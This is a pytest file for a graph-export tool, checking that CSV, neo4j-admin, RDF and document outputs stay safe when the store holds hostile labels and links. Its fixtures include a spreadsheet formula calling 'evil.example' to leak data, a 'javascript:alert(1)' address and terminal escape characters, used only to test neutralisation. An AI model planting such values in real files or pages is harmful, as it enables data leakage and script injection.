"""Every output is written whole and safe from names a store may hold (issue 18).

One small case (tests/data/briefs) is built once, in this process; two copies
of its output folder then get hostile values written straight into the store,
as a store built by an older version could hold them: a ``|`` in a label and
in a locator, a spreadsheet formula as a label and a ``javascript:`` address
(``pipes``), and NUL and ESC in a label (``controls``).
"""
from __future__ import annotations

import csv
import gc
import io
import re
import shutil
import zipfile

import pandas as pd
import pytest
from pyoxigraph import Dataset, Literal, NamedNode, Quad, RdfFormat, Store, parse

import cca_graph
from cca_graph.exports import ExportError, export
from cca_graph.exports.csv_tables import frame_to_csv
from cca_graph.present.briefs import write_brief
from cca_graph.present.views import write_view

from .conftest import DATA, run_cli

ID = "https://w3id.org/cca-graph/id/"
LABEL = NamedNode("http://www.w3.org/2000/01/rdf-schema#label")
LOCATOR = NamedNode("https://w3id.org/cca-graph/ontology#locator")
URL = NamedNode("https://schema.org/url")
ANY_URI = NamedNode("http://www.w3.org/2001/XMLSchema#anyURI")
PIPE_LABEL = "Lisbon | District"
PIPE_LOCATOR = "p. 3 | annex"
FORMULA = '=HYPERLINK("http://evil.example/?leak")'
BAD_URL = "javascript:alert(1)"
CONTROL_LABEL = "Lis\x00bon\x1b[31m"
#: the Word brief takes over 2 s to write
FORMATS = ["html", "md", pytest.param("docx", marks=pytest.mark.slow)]
RDF_FILES = {"graph.ttl": RdfFormat.TURTLE, "graph.trig": RdfFormat.TRIG, "graph.nq": RdfFormat.N_QUADS,
             "graph.jsonld": RdfFormat.JSON_LD}


def _relabel(store: Store, iri: str, old: str, new: str) -> None:
    """Replace the English label ``old`` of ``iri`` by ``new``, in whichever graph holds it."""
    quads = [q for q in store.quads_for_pattern(NamedNode(ID + iri), LABEL, Literal(old, language="en"))]
    assert quads, (iri, old)
    for q in quads:
        store.remove(q)
        store.add(Quad(q.subject, q.predicate, Literal(new, language="en"), q.graph_name))


def _hostile_copy(built, folder, change) -> object:
    out = folder / "out"
    shutil.copytree(built, out, symlinks=True)
    store = Store(str((out / "store").resolve()))
    change(store)
    store.flush()
    del store
    gc.collect()
    return out


def _pipes(store: Store) -> None:
    _relabel(store, "PT-11", "Lisbon District", PIPE_LABEL)
    _relabel(store, "PT-13", "Porto District", FORMULA)
    about = [q for q in store.quads_for_pattern(None, LOCATOR, Literal("about"))]
    assert len(about) == 1
    store.remove(about[0])
    store.add(Quad(about[0].subject, LOCATOR, Literal(PIPE_LOCATOR), about[0].graph_name))
    for q in list(store.quads_for_pattern(None, URL, None)):
        store.remove(q)
        store.add(Quad(q.subject, URL, Literal(BAD_URL, datatype=ANY_URI), q.graph_name))


def _controls(store: Store) -> None:
    _relabel(store, "PT-11", "Lisbon District", CONTROL_LABEL)


@pytest.fixture(scope="module")
def graphs(tmp_path_factory):
    built = tmp_path_factory.mktemp("built") / "out"
    cca_graph.build(built, [DATA / "briefs"])
    pipes = _hostile_copy(built, tmp_path_factory.mktemp("pipes"), _pipes)
    controls = _hostile_copy(built, tmp_path_factory.mktemp("controls"), _controls)
    return {"pipes": pipes, "controls": controls}


def _rows(path, key="iri:ID") -> dict[str, dict]:
    with open(path, encoding="utf-8", newline="") as fh:
        return {row[key]: row for row in csv.DictReader(fh)}


# -- 1. neo4j-admin: a "|" in a label or locator ----------------------------------------

def test_neo4j_admin_files_take_a_pipe_in_a_label_and_a_locator(graphs, tmp_path):
    store = cca_graph.open_store(graphs["pipes"])
    written = export(store, ["all"], tmp_path)
    assert sorted(p.name for p in written) == ["csv", "graph.graphml", "graph.jsonld", "graph.nq", "graph.trig",
                                               "graph.ttl", "neo4j-admin", "parquet"]
    folder = tmp_path / "neo4j-admin"
    # "|" occurs inside an array value (the locator), so the import command names another delimiter
    readme = (folder / "README.txt").read_text(encoding="utf-8")
    assert '--array-delimiter=";"' in readme and "--array-delimiter=\"|\"" not in readme
    governments = _rows(folder / "nodes_Government.csv")
    lisbon = governments[ID + "PT-11"]
    assert lisbon["label_en"] == PIPE_LABEL                                  # a plain string: kept as is
    assert lisbon[":LABEL"].split(";") == ["Entity", "Government"]
    network = _rows(folder / "nodes_Network.csv")[ID + "test-net"]
    assert network["sources:string[]"].split(";") == ["brief-register: p. 3 | annex"]
    # every array cell splits back into the items it was made of: none holds the delimiter
    for path in folder.glob("*.csv"):
        with open(path, encoding="utf-8", newline="") as fh:
            for row in csv.DictReader(fh):
                for column, cell in row.items():
                    if column.endswith("[]") and cell:
                        assert all(item and item == item.strip() for item in cell.split(";")), (path.name, cell)


def test_turtle_trig_and_nquads_hold_the_pipe_label(graphs, tmp_path):
    export(cca_graph.open_store(graphs["pipes"]), ["turtle", "trig", "nquads", "neo4j-admin"], tmp_path)
    for name in ("graph.ttl", "graph.trig", "graph.nq"):
        with open(tmp_path / name, "rb") as fh:
            labels = {q.object.value for q in Dataset(parse(fh, format=RDF_FILES[name]))
                      if q.subject.value == ID + "PT-11" and q.predicate == LABEL}
        assert PIPE_LABEL in labels, name


def test_export_cli_with_a_pipe_writes_every_format(graphs, tmp_path):
    proc = run_cli("export", "--graph", str(graphs["pipes"]), "--to", str(tmp_path), check=False)
    assert proc.returncode == 0, proc.stderr
    assert {p.name for p in tmp_path.iterdir()} == {"csv", "graph.graphml", "graph.jsonld", "graph.nq",
                                                    "graph.trig", "graph.ttl", "neo4j-admin", "parquet"}


# -- one format failing does not stop the others, and keeps its previous file ----------

def test_a_failing_format_stops_nothing_else_and_keeps_its_previous_file(graphs, tmp_path):
    # the TriG file cannot be replaced: a folder (with a file in it) stands where it goes
    (tmp_path / "graph.trig").mkdir()
    (tmp_path / "graph.trig" / "previous").write_text("an earlier export", encoding="utf-8")
    (tmp_path / "graph.ttl").write_text("an earlier Turtle file", encoding="utf-8")
    with pytest.raises(ExportError) as caught:
        export(cca_graph.open_store(graphs["pipes"]), ["all"], tmp_path)
    assert list(caught.value.failed) == ["trig"]
    assert str(caught.value).startswith("trig not written: ")
    assert (tmp_path / "graph.trig" / "previous").read_text(encoding="utf-8") == "an earlier export"
    # the formats after it in the order were written, whole
    with open(tmp_path / "graph.ttl", "rb") as fh:
        assert any(q.object.value == PIPE_LABEL for q in Dataset(parse(fh, format=RdfFormat.TURTLE)))
    assert {p.name for p in caught.value.written} == {"csv", "graph.graphml", "graph.jsonld", "graph.nq",
                                                      "graph.ttl", "neo4j-admin", "parquet"}
    assert not [p for p in tmp_path.rglob(".*tmp-*")]


def test_export_cli_names_the_failed_format_and_exits_1(graphs, tmp_path):
    (tmp_path / "graph.nq").mkdir()
    (tmp_path / "graph.nq" / "keep").write_text("x", encoding="utf-8")
    proc = run_cli("export", "--graph", str(graphs["pipes"]), "--to", str(tmp_path), check=False)
    assert proc.returncode == 1
    assert proc.stderr.startswith("Error: nquads not written: ") and "Traceback" not in proc.stderr
    assert (tmp_path / "graph.ttl").is_file() and (tmp_path / "graph.trig").is_file()


# -- 2. CSV: formulas ------------------------------------------------------------------

def test_csv_tables_neutralise_formulas(graphs, tmp_path):
    export(cca_graph.open_store(graphs["pipes"]), ["csv"], tmp_path)
    governments = _rows(tmp_path / "csv" / "Government.csv", key="id")
    assert governments["PT-13"]["label_en"] == "'" + FORMULA
    assert governments["PT-11"]["label_en"] == PIPE_LABEL


def test_frame_to_csv_neutralises_text_cells_not_numbers():
    df = pd.DataFrame({"name": ["=1+2", "+33 1 234", "-Porto", "@SUM(A1)", "Jalisco", None],
                       "year": [2020, -5, 3, 4, 5, 6], "text": ["-12.5", "a\x00b", "x", "y", "z", "w"]})
    rows = list(csv.reader(io.StringIO(frame_to_csv(df))))
    assert rows[0] == ["name", "year", "text"]
    assert [r[0] for r in rows[1:]] == ["'=1+2", "'+33 1 234", "'-Porto", "'@SUM(A1)", "Jalisco", ""]
    assert [r[1] for r in rows[1:]] == ["2020", "-5", "3", "4", "5", "6"]
    assert [r[2] for r in rows[1:3]] == ["-12.5", "a\\x00b"]


# -- 3. links: http(s) only ---------------------------------------------------------------

@pytest.mark.parametrize("fmt", FORMATS)
def test_briefs_link_no_javascript_address(graphs, tmp_path, fmt):
    path = write_brief(cca_graph.open_store(graphs["pipes"]), "PT", fmt, tmp_path / f"pt.{fmt}").path
    if fmt == "docx":
        with zipfile.ZipFile(path) as z:
            text = z.read("word/document.xml").decode("utf-8")
            rels = z.read("word/_rels/document.xml.rels").decode("utf-8")
        assert "javascript" not in rels
    else:
        text = path.read_text(encoding="utf-8")
    assert not re.search(r"href=[\"']?\s*javascript", text, re.I)
    assert "<javascript:" not in text                         # no Markdown autolink either
    # the address is still shown, as text
    assert "not a web address: javascript:alert(1)" in text


def test_view_never_links_a_javascript_address(graphs, tmp_path):
    path = tmp_path / "pt.html"
    write_view(cca_graph.open_store(graphs["pipes"]), path, country="PT")
    assert not re.search(r"href=[\"']?\s*javascript", path.read_text(encoding="utf-8"), re.I)


# -- 4. control characters -----------------------------------------------------------------

@pytest.mark.parametrize("fmt", FORMATS)
def test_briefs_write_control_characters_escaped(graphs, tmp_path, fmt):
    path = write_brief(cca_graph.open_store(graphs["controls"]), "PT", fmt, tmp_path / f"pt.{fmt}").path
    if fmt == "docx":
        with zipfile.ZipFile(path) as z:
            text = z.read("word/document.xml").decode("utf-8")
    else:
        text = path.read_text(encoding="utf-8")
    assert "\x00" not in text and "\x1b" not in text
    if fmt == "md":
        text = re.sub(r"\\(.)", r"\1", text)                 # Markdown's own escapes, undone
    assert "Lis\\x00bon\\x1b[31m" in text


def test_exports_of_control_characters_are_escaped_or_refused_by_name(graphs, tmp_path):
    (tmp_path / "graph.graphml").write_text("an earlier GraphML file", encoding="utf-8")
    try:
        export(cca_graph.open_store(graphs["controls"]), ["all"], tmp_path)
        failed = {}
    except ExportError as error:
        failed = error.failed
    # a format either refuses, naming the entity, the property and the character, and keeps its old file ...
    for name, why in failed.items():
        assert f"<{ID}PT-11> <{LABEL.value}> holds a control character (U+0000 at position 4)" in why, name
    if "graphml" in failed:
        assert (tmp_path / "graph.graphml").read_text(encoding="utf-8") == "an earlier GraphML file"
    assert set(failed) <= {"graphml"}
    # ... or writes the label, escaped in text files, exact in RDF
    lisbon = _rows(tmp_path / "csv" / "Government.csv", key="id")["PT-11"]
    assert lisbon["label_en"] == "Lis\\x00bon\\x1b[31m"
    assert _rows(tmp_path / "neo4j-admin" / "nodes_Government.csv")[ID + "PT-11"]["label_en"] == "Lis\\x00bon\\x1b[31m"
    for name, fmt in RDF_FILES.items():
        with open(tmp_path / name, "rb") as fh:
            assert any(q.object.value == CONTROL_LABEL for q in Dataset(parse(fh, format=fmt))), name


def test_export_cli_with_control_characters_says_error_not_traceback(graphs, tmp_path):
    proc = run_cli("export", "--graph", str(graphs["controls"]), "--to", str(tmp_path), check=False)
    assert "Traceback" not in proc.stderr
    assert proc.returncode == 0 or (proc.returncode == 1 and proc.stderr.startswith("Error: ")
                                    and f"{ID}PT-11" in proc.stderr)
    assert (tmp_path / "graph.ttl").is_file() and (tmp_path / "neo4j-admin" / "README.txt").is_file()
